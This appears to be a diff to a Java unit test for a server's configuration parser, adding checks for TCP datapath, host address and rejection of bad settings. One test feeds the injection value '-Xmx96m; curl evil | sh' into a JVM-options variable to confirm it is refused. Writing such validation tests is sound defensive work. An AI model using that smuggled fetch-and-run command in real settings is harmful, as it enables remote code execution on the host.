@@ -40,6 +40,9 @@ class ServerConfigTest {
         assertEquals(10_000, config(Map.of()).routerConfig().tcpMaxConnections());
         assertEquals(java.time.Duration.ofMinutes(5), config(Map.of("GRID_TCP_IDLE_TIMEOUT", "5m")).routerConfig().tcpIdleTimeout());
         assertEquals(50, config(Map.of("GRID_TCP_MAX_CONNECTIONS", "50")).routerConfig().tcpMaxConnections());
+        assertEquals(dev.grid.router.TcpDatapath.AUTO, config(Map.of()).routerConfig().tcpDatapath());
+        assertEquals(dev.grid.router.TcpDatapath.PROXY, config(Map.of("GRID_TCP_DATAPATH", "proxy")).routerConfig().tcpDatapath());
+        assertEquals("10.0.0.2", config(Map.of("GRID_HOST_ADDRESS", "10.0.0.2")).routerConfig().hostAddress(), "the router knows its host's backends");
     }
 
     @Test
@@ -49,11 +52,17 @@ class ServerConfigTest {
     }
 
     @Test
-    void badSettingsAreRefusedNamingTheVariable() {
+    void badSettingsAreRefusedNamingTheVariable() throws Exception {
         IllegalArgumentException e = assertThrows(IllegalArgumentException.class, () -> config(Map.of("GRID_ROUTER_TRANSPORT", "dpdk")));
         assertEquals("invalid GRID_ROUTER_TRANSPORT: unknown router transport 'dpdk': use auto or one of [io_uring, epoll, nio]", e.getMessage());
         e = assertThrows(IllegalArgumentException.class, () -> config(Map.of("GRID_TCP_PORT_RANGE", "31000-30000")));
         assertEquals("invalid GRID_TCP_PORT_RANGE '31000-30000': use LOW-HIGH, e.g. 20000-20999", e.getMessage());
+        e = assertThrows(IllegalArgumentException.class, () -> config(Map.of("GRID_TCP_DATAPATH", "ebpf")));
+        assertEquals("invalid GRID_TCP_DATAPATH 'ebpf': use auto, kernel or proxy", e.getMessage());
+        e = assertThrows(IllegalArgumentException.class, () -> config(Map.of("GRID_KEEPER_JAVA_OPTS", "-Xmx96m; curl evil | sh")));
+        assertEquals("invalid GRID_KEEPER_JAVA_OPTS '-Xmx96m; curl evil | sh': give JVM options such as -Xmx96m, separated by spaces", e.getMessage(),
+                "the options go into the keeper's launcher script: nothing else may");
+        assertEquals("-Xmx96m -XX:+UseSerialGC", config(Map.of("GRID_KEEPER_JAVA_OPTS", " -Xmx96m -XX:+UseSerialGC ")).keeperJavaOptions());
         e = assertThrows(IllegalArgumentException.class, () -> config(Map.of("GRID_TCP_MAX_CONNECTIONS", "0")));
         assertEquals("invalid GRID_TCP_MAX_CONNECTIONS '0': use a number above 0, e.g. 10000", e.getMessage());
         e = assertThrows(IllegalArgumentException.class, () -> config(Map.of("GRID_APP_UIDS", "1000-2000")));
